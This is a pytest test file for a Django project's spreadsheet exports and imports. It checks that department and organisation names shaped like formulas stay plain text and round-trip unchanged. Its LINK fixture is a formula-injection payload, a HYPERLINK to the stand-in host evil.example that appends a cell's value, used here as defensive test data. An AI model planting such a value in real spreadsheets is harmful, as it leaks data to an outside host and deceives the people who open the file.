"""Names that look like formulas leave every export as the text they are and come back unchanged: the
plan's 任务分解表, the figures template, and the admin's department and organisation exports
(django-import-export) — all through core.spreadsheets.workbook_bytes, read back by its one reader."""

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse

from core.spreadsheets import read_grid

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&C4,"点我")'
SUM = "=1+1区委"
ROOT = Path(__file__).resolve().parent.parent


def cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]


def assert_no_formulas(content: bytes, *texts: str):
    found = cells(content)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    values = {cell.value for cell in found}
    for text in texts:
        assert any(text in str(value) for value in values), text


@pytest.fixture
def superuser_client(client, make_user):
    client.force_login(make_user(is_superuser=True, is_staff=True))
    return client


def admin_export(client, model) -> bytes:
    """The admin's export page as a superuser uses it: every field, the .xlsx format."""
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    page = client.get(url).content.decode()
    fields = dict.fromkeys(re.findall(r'type="checkbox" name="([^"]+)"', page), "on")
    offered = re.search(r'<option value="(\d+)"[^>]*>xlsx</option>', page)  # one format: no choice shown
    xlsx = offered.group(1) if offered else "0"
    response = client.post(url, {"format": xlsx, "resource": "0", **fields})
    assert response.status_code == 200, page[:2000]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return response.content


def test_plan_export_of_a_formula_named_department(tree):
    from orgtree.services import department_create
    from plans.exporters import export_plan_xlsx
    from plans.imports import plan_import_preview
    from plans.models import Plan, Task

    plan = Plan.objects.create(title="2020年工作要点", organisation=tree.zj, start_year=2020, end_year=2020)
    task = Task.objects.create(
        plan=plan, organisation=tree.zj, seq="1", title="推进", schedule_text="3月", order=1
    )
    task.lead_departments.add(department_create(organisation=tree.zj, name=LINK))
    content = export_plan_xlsx(plan)
    assert_no_formulas(content, LINK)
    (back,) = plan_import_preview(organisation=tree.zj, filename="p.xlsx", content=content)["tasks"]
    assert back["lead_departments"] == [LINK] and back["change"] == "unchanged"


def test_figures_template_of_a_formula_named_organisation(tree):
    from core.periods import parse_period
    from indicators.exporters import template_xlsx
    from orgtree.models import Organisation

    Organisation.objects.filter(pk=tree.xh.pk).update(name=SUM)
    rows = list(Organisation.objects.filter(pk__in=[tree.xh.pk, tree.hz.pk]).order_by("code"))
    content = template_xlsx(tree.hz, parse_period("2019-05"), [], rows, {})
    assert_no_formulas(content, SUM)
    grid = read_grid("t.xlsx", content)
    assert [tree.xh.code, SUM] in [row[:2] for row in grid]


def test_admin_department_export_and_import_round_trip(superuser_client, tree):
    from orgtree.admin import DepartmentAdmin, DepartmentResource
    from orgtree.models import Department
    from orgtree.services import department_create

    department_create(organisation=tree.zj, name=LINK)
    department_create(organisation=tree.zj, name="'办公室")  # an apostrophe typed as part of the name
    content = admin_export(superuser_client, Department)
    assert_no_formulas(content, LINK, "'办公室")
    grid = read_grid("d.xlsx", content)
    assert [tree.zj.code, LINK] in [row[:2] for row in grid]
    before = sorted(Department.objects.values_list("organisation__code", "name", "order", "is_active"))
    (fmt,) = DepartmentAdmin(Department, admin.site).get_import_formats()
    result = DepartmentResource().import_data(fmt().create_dataset(content), dry_run=False, raise_errors=True)
    assert not result.has_errors() and not result.has_validation_errors()
    assert (
        sorted(Department.objects.values_list("organisation__code", "name", "order", "is_active")) == before
    )


def test_admin_organisation_export(superuser_client, tree):
    from orgtree.models import Organisation

    Organisation.objects.filter(pk=tree.xh.pk).update(name=SUM, short_name=LINK)
    content = admin_export(superuser_client, Organisation)
    assert_no_formulas(content, SUM, LINK)
    assert any(row[1:4] == [tree.xh.code, SUM, LINK] for row in read_grid("o.xlsx", content))


def test_admin_import_refuses_a_hostile_file_in_chinese(superuser_client, tree):
    from core.tests import hostile
    from orgtree.models import Department

    count = Department.objects.count()
    url = reverse("admin:orgtree_department_import")
    upload = io.BytesIO(hostile.xlsx(hostile.row_jump()))
    upload.name = "d.xlsx"
    page = superuser_client.post(
        url, {"format": "0", "resource": "0", "import_file": upload}
    ).content.decode()
    assert "文件被拒绝：行数过多" in page and Department.objects.count() == count


def test_every_import_export_admin_offers_only_the_safe_format():
    from core.importexport import SafeXLSX

    mixed = [a for a in admin.site._registry.values() if hasattr(a, "get_export_formats")]
    assert mixed, "no import/export admin found"
    for model_admin in mixed:
        assert model_admin.get_export_formats() == [SafeXLSX], model_admin
        if hasattr(model_admin, "get_import_formats"):
            assert model_admin.get_import_formats() == [SafeXLSX], model_admin


def test_every_workbook_the_project_builds_is_saved_by_the_one_writer():
    """grep for openpyxl workbooks in the application code: each module that builds one saves it through
    core.spreadsheets.workbook_bytes."""
    skip = {"tests", "fixtures", "bench", "migrations", ".venv", "node_modules"}
    offenders = []
    for path in ROOT.rglob("*.py"):
        if skip & set(path.relative_to(ROOT).parts) or path.name.startswith("test_"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(\)|openpyxl\.Workbook", text) and "workbook_bytes" not in text:
            offenders.append(str(path.relative_to(ROOT)))
        if re.search(r"\.save\((buffer|stream|io\.BytesIO)", text) and path.name != "spreadsheets.py":
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
